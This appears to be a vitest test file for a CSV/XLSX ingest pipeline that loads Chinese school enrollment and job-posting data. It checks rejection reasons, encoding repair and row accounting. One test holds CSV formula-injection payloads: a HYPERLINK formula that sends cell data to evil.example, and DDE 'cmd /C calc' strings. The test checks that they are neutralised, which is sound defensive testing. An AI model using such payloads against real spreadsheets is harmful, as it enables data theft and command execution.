import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import ExcelJS from 'exceljs';
import iconv from 'iconv-lite';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import type { Warehouse } from '@talent/models';
import { ingestAll, loadFile, type LoadResult } from '@talent/ingest';
import { tempWarehouse } from './helpers/warehouse.js';
import { config, normalizers, sharedReference } from './helpers/coders.js';
import {
  ENROLLMENT_HEADER,
  ENROLLMENT_MAPPING,
  ENROLLMENT_ROWS,
  POSTING_HEADER,
  POSTING_MAPPING,
  postingLines,
  writeGbk,
  writeUtf8,
} from './helpers/fixtures.js';

let ctx: Awaited<ReturnType<typeof tempWarehouse>>;
let wh: Warehouse;
const TODAY = '2025-12-31';

beforeEach(async () => {
  ctx = await tempWarehouse();
  wh = ctx.wh;
});
afterEach(() => ctx.dispose());

async function rows(sql: string): Promise<Record<string, unknown>[]> {
  return (await wh.conn.runAndReadAll(sql)).getRowObjectsJson();
}

/** Every load keeps rows read = loaded + rejected, in the result and in the warehouse. */
async function expectAccounting(r: LoadResult): Promise<void> {
  expect(r.rowsRead).toBe(r.rowsLoaded + r.rowsRejected);
  const [m] = await rows(`SELECT rows_read, rows_loaded, rows_rejected, status FROM meta.loads WHERE load_id = '${r.loadId}'`);
  expect(m).toBeDefined();
  expect(Number(m!.rows_read)).toBe(r.rowsRead);
  expect(Number(m!.rows_loaded)).toBe(r.rowsLoaded);
  if (r.status === 'loaded' || r.status === 'replaced') {
    const [rej] = await rows(`SELECT count(DISTINCT line) AS n FROM meta.rejected_rows WHERE load_id = '${r.loadId}'`);
    expect(Number(rej!.n)).toBe(r.rowsRejected);
    const table = r.kind === 'job_posting' ? 'core.job_posting' : 'core.enrollment';
    const [core] = await rows(`SELECT count(*) AS n FROM ${table} WHERE load_id = '${r.loadId}'`);
    expect(Number(core!.n)).toBe(r.rowsLoaded);
  }
}

async function rejects(r: LoadResult): Promise<{ line: number; column_name: string | null; reason: string; raw_value: string | null }[]> {
  return (
    await rows(
      `SELECT line, column_name, reason, raw_value FROM meta.rejected_rows WHERE load_id = '${r.loadId}' ORDER BY line, column_name`,
    )
  ).map((x) => ({
    line: Number(x.line),
    column_name: (x.column_name as string) ?? null,
    reason: String(x.reason),
    raw_value: (x.raw_value as string) ?? null,
  }));
}

describe('bad input: each case gives a clear error or a rejected row with a reason', () => {
  it('empty file: the load fails with a message, nothing written', async () => {
    const p = join(ctx.dir, 'enrollment_2024.csv');
    writeFileSync(p, '');
    const r = await loadFile(wh.conn, ENROLLMENT_MAPPING, p, { today: TODAY });
    expect(r.status).toBe('failed');
    expect(r.message).toMatch(/empty/);
    await expectAccounting(r);
  });

  it('header only: loads zero rows', async () => {
    const p = writeUtf8(ctx.dir, 'enrollment_2024.csv', [ENROLLMENT_HEADER]);
    const r = await loadFile(wh.conn, ENROLLMENT_MAPPING, p, { today: TODAY });
    expect(r.status).toBe('loaded');
    expect(r.rowsRead).toBe(0);
    await expectAccounting(r);
  });

  it('unknown headers are ignored and named; a missing required column fails the load clearly', async () => {
    const p = writeUtf8(ctx.dir, 'enrollment_2024.csv', [ENROLLMENT_HEADER + ',备注', ...ENROLLMENT_ROWS.map((l) => l + ',无')]);
    const r = await loadFile(wh.conn, ENROLLMENT_MAPPING, p, { today: TODAY });
    expect(r.status).toBe('loaded');
    expect(r.rowsLoaded).toBe(3);
    expect(r.message).toContain('备注');
    const q = writeUtf8(ctx.dir, 'enrollment_2023.csv', ['学校,专业代码,年份', '柳州职业技术学院,460701,2023']);
    const bad = await loadFile(wh.conn, ENROLLMENT_MAPPING, q, { today: TODAY });
    expect(bad.status).toBe('failed');
    expect(bad.message).toMatch(/no header row found|required column missing/);
  });

  it('duplicate headers for one field fail the load, naming both columns', async () => {
    const p = writeUtf8(ctx.dir, 'enrollment_2024.csv', [
      ENROLLMENT_HEADER + ',学校标识码',
      ...ENROLLMENT_ROWS.map((l) => l + ',4145012104'),
    ]);
    const r = await loadFile(wh.conn, ENROLLMENT_MAPPING, p, { today: TODAY });
    expect(r.status).toBe('failed');
    expect(r.message).toMatch(/duplicate header: columns 2 \("学校代码"\) and 10 \("学校标识码"\)/);
    await expectAccounting(r);
  });

  it('ragged rows are rejected with their line; the others load', async () => {
    const p = writeUtf8(ctx.dir, 'enrollment_2024.csv', [
      ENROLLMENT_HEADER,
      ENROLLMENT_ROWS[0]!,
      '柳州职业技术学院,4145012104,高职专科,460702,新能源汽车技术,2024,200',
      ENROLLMENT_ROWS[2]! + ',多余,列',
    ]);
    const r = await loadFile(wh.conn, ENROLLMENT_MAPPING, p, { today: TODAY });
    expect(r.rowsRead).toBe(3);
    expect(r.rowsLoaded).toBe(1);
    const rej = await rejects(r);
    expect(rej.map((x) => x.line)).toEqual([3, 4]);
    expect(rej.every((x) => /ragged row/.test(x.reason))).toBe(true);
    await expectAccounting(r);
  });

  it('wrong types and impossible values are rejected per column with a reason', async () => {
    const p = writeUtf8(ctx.dir, 'enrollment_2024.csv', [
      ENROLLMENT_HEADER,
      ENROLLMENT_ROWS[0]!,
      '柳州职业技术学院,4145012104,高职专科,460702,新能源汽车技术,2024,二百,540,150',
      '柳州职业技术学院,4145012104,高职专科,460703,汽车电子技术,2024,-5,230,71',
      '柳州职业技术学院,4145012104,高职专科,460704,智能网联汽车技术,2024,90,100,730',
      '柳州职业技术学院,4145012104,大学,460704,智能网联汽车技术,2031,90,300,30',
      '柳州职业技术学院,4145012104,高职专科,460704,智能网联汽车技术,2024,90.5,300,30',
      // A closing programme: no intake, 40 left on the roll, 95 graduating out of last year's 135.
      '柳州职业技术学院,4145012104,高职专科,460705,汽车检测与维修技术,2023,0,135,60',
      '柳州职业技术学院,4145012104,高职专科,460705,汽车检测与维修技术,2024,0,40,95',
    ]);
    const r = await loadFile(wh.conn, ENROLLMENT_MAPPING, p, { today: TODAY });
    expect(r.rowsRead).toBe(8);
    expect(r.rowsLoaded).toBe(3);
    const rej = await rejects(r);
    const at = (line: number) => rej.filter((x) => x.line === line).map((x) => `${x.column_name}: ${x.reason}`);
    expect(at(3)).toEqual(['enrolled_new: not a number']);
    expect(at(4)).toEqual(['enrolled_new: negative value']);
    expect(at(5)).toEqual(["graduates: graduates exceed students enrolled (last year's roll)"]);
    expect(at(8)).toEqual([]);
    expect(at(9)).toEqual([]);
    expect(at(6)).toContain('school_level: not one of 中职, 高职专科, 职业本科, 本科, 研究生');
    expect(at(6)).toContain('year: year in the future');
    expect(at(7)).toEqual(['enrolled_new: not a whole number']);
    expect(rej.find((x) => x.line === 3)!.raw_value).toBe('二百');
    await expectAccounting(r);
  });

  it('posting dates in the future are rejected; spreadsheet formulas (DDE included) load neutralised, kept as read in raw', async () => {
    const lines = postingLines(3);
    const p = writeUtf8(ctx.dir, 'board.csv', [
      POSTING_HEADER,
      ...lines,
      '=HYPERLINK("http://evil.example/?"&A1;"点击"),柳州某公司,柳州-城中区,5-8千,大专,1年,2025-03-01',
      '电工,柳州某公司,柳州-城中区,5-8千,大专,1年,2026-02-01',
      '钳工,柳州某公司,柳州-城中区,5-8千,大专,1年,去年春天',
      `"=cmd|' /C calc'!A0","+cmd|' /C calc'!A0",柳州-城中区,5-8千,大专,1年,2025-03-02`,
      '=1+1,@SUM(1+1),柳州-城中区,-5,大专,1年,2025-03-03',
    ]);
    const r = await loadFile(wh.conn, POSTING_MAPPING, p, { today: TODAY });
    expect(r.rowsLoaded).toBe(6);
    const rej = await rejects(r);
    expect(rej.map((x) => `${x.line} ${x.column_name}: ${x.reason}`)).toEqual([
      '6 posted_date: date in the future',
      '7 posted_date: not a recognisable date',
    ]);
    const shown = await rows(`SELECT p.line, p.title, p.company, p.salary_text, r.title AS raw_title, r.company AS raw_company
      FROM core.job_posting p JOIN raw.job_posting r USING (load_id, line) WHERE p.line IN (5, 8, 9) ORDER BY p.line`);
    expect(shown).toEqual([
      {
        line: '5',
        title: `'=HYPERLINK("http://evil.example/?"&A1;"点击")`,
        company: '柳州某公司',
        salary_text: '5-8千',
        raw_title: '=HYPERLINK("http://evil.example/?"&A1;"点击")',
        raw_company: '柳州某公司',
      },
      {
        line: '8',
        title: `'=cmd|' /C calc'!A0`,
        company: `'+cmd|' /C calc'!A0`,
        salary_text: '5-8千',
        raw_title: `=cmd|' /C calc'!A0`,
        raw_company: `+cmd|' /C calc'!A0`,
      },
      { line: '9', title: "'=1+1", company: "'@SUM(1+1)", salary_text: '-5', raw_title: '=1+1', raw_company: '@SUM(1+1)' },
    ]);
    await expectAccounting(r);
  });

  it('mixed encodings: UTF-8 and GBK lines in one file both decode', async () => {
    const head = Buffer.from([POSTING_HEADER, ...postingLines(2)].join('\n') + '\n', 'utf8');
    const gbk = iconv.encode(postingLines(2, 2).join('\n') + '\n', 'gbk');
    const p = join(ctx.dir, 'mixed.csv');
    writeFileSync(p, Buffer.concat([head, gbk]));
    const r = await loadFile(wh.conn, POSTING_MAPPING, p, { today: TODAY });
    expect(r.encoding).toBe('mixed');
    expect(r.rowsLoaded).toBe(4);
    const titles = (await rows(`SELECT title FROM core.job_posting ORDER BY line`)).map((x) => x.title);
    expect(titles).toEqual(postingLines(4).map((l) => l.split(',')[0]));
  });

  it('GBK with CRLF and GBK-read-as-Latin-1 mojibake are detected and repaired', async () => {
    const p = writeGbk(ctx.dir, 'gbk.csv', [POSTING_HEADER, ...postingLines(3)]);
    const r = await loadFile(wh.conn, POSTING_MAPPING, p, { today: TODAY });
    expect(r.encoding).toBe('gb18030');
    expect(r.rowsLoaded).toBe(3);
    const moji = join(ctx.dir, 'moji.csv');
    const text = iconv.encode([POSTING_HEADER, ...postingLines(3)].join('\n') + '\n', 'gbk').toString('latin1');
    writeFileSync(moji, Buffer.from(text, 'utf8'));
    const m = await loadFile(wh.conn, POSTING_MAPPING, moji, { today: TODAY });
    expect(m.encoding).toBe('latin1-mojibake');
    expect(m.rowsLoaded).toBe(3);
    const companies = (await rows(`SELECT company FROM core.job_posting WHERE load_id = '${m.loadId}' ORDER BY line`)).map(
      (x) => x.company,
    );
    expect(companies).toEqual(postingLines(3).map((l) => l.split(',')[1]));
  });

  it('a 10 MB field rejects its row, not the file, on both readers', async () => {
    const huge = 'x'.repeat(10 * 1024 * 1024);
    const lines = [
      POSTING_HEADER,
      ...postingLines(2),
      `电工,柳州某公司,柳州-城中区,5-8千,大专,1年,2025-03-01${huge}`,
      ...postingLines(1, 5),
    ];
    const p = writeUtf8(ctx.dir, 'huge.csv', lines);
    const r = await loadFile(wh.conn, POSTING_MAPPING, p, { today: TODAY });
    expect(r.rowsRead).toBe(4);
    expect(r.rowsLoaded).toBe(3);
    const rej = await rejects(r);
    expect(rej).toHaveLength(1);
    expect(rej[0]!.line).toBe(4);
    expect(rej[0]!.reason).toMatch(/longer than/);
    expect(rej[0]!.raw_value!.length).toBeLessThan(2000);
    // Another board's copy (different last posting, so a different file) through DuckDB's read_csv.
    const p2 = writeUtf8(ctx.dir, 'huge2.csv', [...lines.slice(0, -1), ...postingLines(1, 6)]);
    const fast = await loadFile(wh.conn, { ...POSTING_MAPPING, source: 'test_board_fast', fastPath: true }, p2, { today: TODAY });
    expect(fast.reader).toBe('duckdb');
    expect(fast.rowsRead).toBe(4);
    expect(fast.rowsLoaded).toBe(3);
    expect((await rejects(fast)).map((x) => x.line)).toEqual([4]);
    await expectAccounting(fast);
  });

  it('a quoted cell spanning lines sends a fast-path file to the stream reader, so lines stay exact', async () => {
    const [a, b, c] = postingLines(3, 40);
    // The second record's title holds a line break (lines 3–4); the last record has a future date.
    const split = `"${b!.split(',')[0]}\n（急聘）",${b!.split(',').slice(1).join(',')}`;
    const p = writeUtf8(ctx.dir, 'multiline.csv', [POSTING_HEADER, a!, split, c!, '电工,柳州某公司,柳州-城中区,5-8千,大专,1年,2099-01-01']);
    const fast = await loadFile(wh.conn, { ...POSTING_MAPPING, source: 'test_board_multiline', fastPath: true }, p, { today: TODAY });
    expect(fast.status).toBe('loaded');
    expect(fast.reader).toBe('stream');
    expect(fast.message).toMatch(/records span lines/);
    expect(fast.rowsRead).toBe(4);
    expect(fast.rowsLoaded).toBe(3);
    // The future date sits on line 6: the header, one record per line, and the extra line of the split cell.
    expect((await rejects(fast)).map((x) => [x.line, x.column_name])).toEqual([[6, 'posted_date']]);
    const lines = (await rows(`SELECT line FROM core.job_posting WHERE load_id = '${fast.loadId}' ORDER BY line`)).map((x) =>
      Number(x.line),
    );
    expect(lines).toEqual([2, 3, 5]);
    await expectAccounting(fast);
  });

  it('a bulk read keeps file order even when the caller let DuckDB reorder inserts, and puts the setting back', async () => {
    await wh.conn.run('SET preserve_insertion_order = false');
    try {
      const lines = [
        POSTING_HEADER,
        ...postingLines(3, 60),
        '电工,柳州某公司,柳州-城中区,5-8千,大专,1年,2099-01-01',
        ...postingLines(2, 70),
      ];
      const p = writeUtf8(ctx.dir, 'order.csv', lines);
      const fast = await loadFile(wh.conn, { ...POSTING_MAPPING, source: 'test_board_order', fastPath: true }, p, { today: TODAY });
      expect(fast.reader).toBe('duckdb');
      expect((await rejects(fast)).map((x) => x.line)).toEqual([5]);
      const titles = (await rows(`SELECT line, title FROM core.job_posting WHERE load_id = '${fast.loadId}' ORDER BY line`)).map(
        (x) => `${String(x.line)}:${String(x.title)}`,
      );
      expect(titles).toEqual([2, 3, 4, 6, 7].map((l) => `${l}:${lines[l - 1]!.split(',')[0]}`));
      const setting = await rows(`SELECT current_setting('preserve_insertion_order') AS v`);
      expect(setting[0]!.v).toBe(false);
    } finally {
      await wh.conn.run('SET preserve_insertion_order = true');
    }
  });

  it('binary garbage fails the load with a clear message', async () => {
    const p = join(ctx.dir, 'garbage.csv');
    const bytes = Buffer.alloc(4096);
    for (let i = 0; i < bytes.length; i++) bytes[i] = (i * 7919 + 13) % 256;
    writeFileSync(p, bytes);
    const r = await loadFile(wh.conn, POSTING_MAPPING, p, { today: TODAY });
    expect(r.status).toBe('failed');
    expect(r.message).toMatch(/binary/);
    await expectAccounting(r);
  });

  it('XLSX: a good sheet streams in; a truncated copy fails with a clear message', async () => {
    const wb = new ExcelJS.Workbook();
    const ws = wb.addWorksheet('岗位');
    ws.addRow(POSTING_HEADER.split(','));
    for (const l of postingLines(50)) ws.addRow(l.split(','));
    const p = join(ctx.dir, 'board.xlsx');
    await wb.xlsx.writeFile(p);
    const mapping = { ...POSTING_MAPPING, source: 'test_xlsx', format: 'xlsx' as const };
    const r = await loadFile(wh.conn, mapping, p, { today: TODAY });
    expect(r.status).toBe('loaded');
    expect(r.rowsLoaded).toBe(50);
    const whole = readFileSync(p);
    const cut = join(ctx.dir, 'cut.xlsx');
    writeFileSync(cut, whole.subarray(0, Math.floor(whole.length * 0.6)));
    const t = await loadFile(wh.conn, mapping, cut, { today: TODAY });
    expect(t.status).toBe('failed');
    expect(t.message).toMatch(/truncated/);
    await expectAccounting(t);
  });

  it('other sources still load when one file is bad', async () => {
    const ds = join(ctx.dir, 'datasets');
    mkdirSync(join(ds, 'sources'), { recursive: true });
    mkdirSync(join(ds, 'enrollment'));
    mkdirSync(join(ds, 'postings'));
    writeFileSync(join(ds, 'sources', 'test_enrollment.json'), JSON.stringify(ENROLLMENT_MAPPING));
    writeFileSync(join(ds, 'sources', 'test_board.json'), JSON.stringify(POSTING_MAPPING));
    writeFileSync(join(ds, 'sources', 'broken.json'), '{"source": "broken", "kind": "nonsense"}');
    writeFileSync(join(ds, 'enrollment', 'school_2024.csv'), Buffer.from([0, 1, 2, 3, 0, 0, 255, 254]));
    writeUtf8(join(ds, 'postings'), 'board_2025.csv', [POSTING_HEADER, ...postingLines(20)]);
    const report = await ingestAll(wh, { sourcesDir: join(ds, 'sources'), roots: [ds], normalizers, today: TODAY });
    expect(report.mappingErrors.join('\n')).toMatch(/broken\.json/);
    const byStatus = Object.fromEntries(report.loads.map((l) => [l.source, l.status]));
    expect(byStatus).toEqual({ test_enrollment: 'failed', test_board: 'loaded' });
    expect(report.sources.find((s) => s.source === 'test_board')!.rowsLoaded).toBe(20);
  });
});

describe('mapping files', () => {
  it('every mapping in datasets/sources validates and finds its files', async () => {
    const { readMappings, resolveFiles } = await import('@talent/ingest');
    const mappings = readMappings(config.sourcesDir);
    expect(mappings.length).toBeGreaterThanOrEqual(7);
    const roots = [config.dataDir, sharedReference()];
    for (const m of mappings) expect(resolveFiles(m, roots).length, m.source).toBeGreaterThan(0);
  });

  it('a mapping that requires a field its kind does not have is refused, naming the field', async () => {
    const { readMapping } = await import('@talent/ingest');
    const dir = mkdtempSync(join(tmpdir(), 'mapping-'));
    try {
      const file = join(dir, 'test_board.json');
      writeFileSync(file, JSON.stringify({ ...POSTING_MAPPING, require: ['posted_date', 'publish_time'] }));
      expect(() => readMapping(file)).toThrow(/require names fields a job_posting record does not have: publish_time/);
      writeFileSync(file, JSON.stringify({ ...POSTING_MAPPING, require: ['posted_date'] }));
      expect(readMapping(file).require).toEqual(['posted_date']);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });
});
